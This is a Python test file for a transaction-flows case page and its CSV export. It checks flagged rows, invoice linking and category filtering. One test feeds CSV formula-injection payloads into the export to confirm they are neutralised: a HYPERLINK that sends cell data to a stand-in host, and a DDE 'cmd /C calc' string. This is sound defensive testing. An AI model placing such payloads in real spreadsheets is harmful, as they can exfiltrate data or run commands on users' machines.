"""The case page's flows, built from stored results without a server: rows a check names are flagged and come
first, a payment that corroborates an invoice links to it, the category filter keeps its category, the chart has
a bar per month of takings; and the CSV download never writes a formula-like cell un-neutralised."""

from __future__ import annotations

import csv
import io
import random
from datetime import date, timedelta
from decimal import Decimal

from attest.pipeline import Engines, process_document
from attest.schemas.decision import MerchantProfile
from attest.verify.application import check_application
from attest.web.export import neutral, transactions_csv
from attest.web.flows import build_flows
from eval.render import flows as fake
from eval.render.flows import Trade, add_payments, year_of_flows
from eval.render.statement import Row, render_statement

from ..verify.test_flows import _invoice

NO_OCR = Engines(ocr=None)  # type: ignore[arg-type]
DAY = date(2026, 11, 28)
SHOP = MerchantProfile(id="m", name="杭州瑞丰贸易有限公司", uscc="91330106MA2H000000", application_date=DAY)


def test_flagged_rows_first_invoices_linked_and_filtered_by_category() -> None:
    truth = year_of_flows(random.Random(3), holder=SHOP.name, monthly=Decimal(30000), trade=Trade((500, 3000), False),
                          end=DAY - timedelta(days=1), layout="bank", fmt="csv")
    fake.round_trip(truth, random.Random(4), Decimal(30000))
    issued = DAY - timedelta(days=60)
    add_payments(truth, random.Random(5), [(issued + timedelta(days=9), "宁波东方机械有限公司", Decimal("8800.00"))])
    statement = process_document(render_statement(truth), "bank.csv", engines=NO_OCR)
    invoice = _invoice("inv-1", "宁波东方机械有限公司", "8800.00", issued)
    docs = [("case-st", "bank.csv", statement), ("case-inv", "inv.png", invoice)]
    view = build_flows(docs, check_application(SHOP, [statement, invoice]), SHOP, category=None, limit=50)
    assert view is not None and len(view.statements) == 1 and view.total == len(statement.statement.rows)
    assert view.rows[0].flags == ["flows.round_trip"] and view.rows[0].doc_id == "case-st"
    linked = [r for r in view.rows if r.invoice]
    assert [(r.invoice, r.amount) for r in linked] == [("case-inv", Decimal("8800.00"))]
    assert 12 <= len(view.months) <= 13 and all(0 <= m.height <= 100 for m in view.months)
    only = build_flows(docs, [], SHOP, category="suppliers", limit=1000)
    assert only is not None and only.rows and {r.category for r in only.rows} == {"suppliers"}
    assert build_flows([("case-inv", "inv.png", invoice)], [], SHOP, category=None, limit=10) is None


def test_the_csv_download_shows_formula_like_cells_as_text() -> None:
    truth = year_of_flows(random.Random(8), holder=SHOP.name, monthly=Decimal(9000), trade=Trade((300, 900), True),
                          end=DAY, layout="platform", fmt="csv")
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\t=1+1", " =1+1"]
    for text in hostile:
        truth.rows.append(Row(truth.rows[0].at, "in", Decimal("1.00"), text, text))
    ev = process_document(render_statement(truth), "bill.csv", engines=NO_OCR).statement
    assert ev is not None
    written = list(csv.reader(io.StringIO(transactions_csv(ev))))
    cells = [c for row in written[1:] for c in row]
    assert not any(c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert sum(1 for row in written[1:] if row[8].startswith("'")) == len(hostile)
    assert neutral("宁波东方") == "宁波东方" and neutral("") == ""
